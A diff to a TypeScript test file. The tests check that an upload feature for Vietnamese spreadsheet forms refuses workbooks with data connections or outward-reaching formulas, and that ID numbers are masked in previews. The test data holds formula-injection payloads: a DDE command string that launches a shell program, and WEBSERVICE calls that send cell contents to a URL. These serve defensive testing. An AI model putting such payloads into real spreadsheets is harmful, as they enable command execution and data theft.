@@ -17,7 +17,7 @@ import { plainForm, readSheets, textsOf, uglyForm } from "#tests/support/forms.t
 import { addList, otherWard, ownWard } from "#tests/support/issued-list.ts";
 import { insertRun } from "#tests/support/lists.ts";
 import { useWard } from "#tests/support/ward.ts";
-import { buildWorkbook } from "#tests/support/xlsx.ts";
+import { buildWorkbook, sheetXml } from "#tests/support/xlsx.ts";
 
 const world = useWard();
 let runId = "";
@@ -39,6 +39,15 @@ const upload = (actor: FormHolder, bytes: Uint8Array = plainForm, providerId: st
     providerId,
     fileName: "Mẫu 02.xlsx",
     bytes,
+  });
+
+/** @param formula as the XML of the sheet has it */
+const formWith = (formula: string) =>
+  buildWorkbook({
+    sheet: sheetXml([["Họ và tên", "Số CCCD"]]).replace(
+      "</sheetData>",
+      `<row r="9"><c r="A9"><f>${formula}</f><v>1</v></c></row></sheetData>`,
+    ),
   });
 
 /** What the page posts when nothing is changed on it. */
@@ -176,9 +185,47 @@ describe("a provider's form", () => {
       buildWorkbook({ parts: [{ name: "xl/externalLinks/externalLink1.xml", data: "<externalLink/>" }] }),
       "forms:errors.externalLinks",
     ],
+    [
+      "a file with a data connection",
+      buildWorkbook({ parts: [{ name: "xl/connections.xml", data: "<connections/>" }] }),
+      "forms:errors.reachesOut",
+    ],
+    ...[
+      "_xlfn.WEBSERVICE(&quot;https://vi-du.vn/?&quot;&amp;A2)",
+      "&#87;ebservice(A1)",
+      "'a&quot;'!A1&amp;WEBSERVICE(&quot;x&quot;)",
+      "_xlfn.IMAGE(A1)",
+      "RTD(&quot;a.b&quot;,,A1)",
+      "cmd|'/c calc'!A0",
+      "[1]Sheet1!A1",
+      "'[1]Danh sách'!A1",
+    ].map((formula): [string, Buffer, string] => [
+      `the formula ${formula}`,
+      formWith(formula),
+      "forms:errors.reachesOut",
+    ]),
   ])("%s is refused at the field", async (_, bytes, key) => {
     await expect(upload(world.people.trainer, bytes)).rejects.toMatchObject({ field: "file", key });
   });
+});
+
+test("a form keeps formulas that stay in the file", async () => {
+  for (const formula of ["COUNTA(B2:B9)", "HYPERLINK(A1,&quot;WEBSERVICE(1)|!&quot;)", "SUM(Bang1[1])"])
+    await expect(upload(world.people.trainer, formWith(formula))).resolves.toBeDefined();
+});
+
+test("the page of a form with the people of an earlier class shows none of their numbers", async () => {
+  const rows = [
+    ["Lớp: …… (062096000003)", null, null],
+    ["Họ và tên", "Số CCCD", "Điện thoại"],
+    ["A Tik", "062096000001", "0905000001"],
+    ["Y Mai", 1096000002, null],
+  ];
+  const { formId } = await upload(world.people.trainer, buildWorkbook({ sheet: sheetXml(rows) }));
+  const form = await openForm(world.db, world.people.trainer, formId);
+  const shown = JSON.stringify([form.preview, form.facts, form.columns]);
+  expect(shown).not.toMatch(/062096|1096000002/);
+  expect(shown).toContain("0905000001");
 });
 
 describe("a form that an office uploaded for a provider", () => {
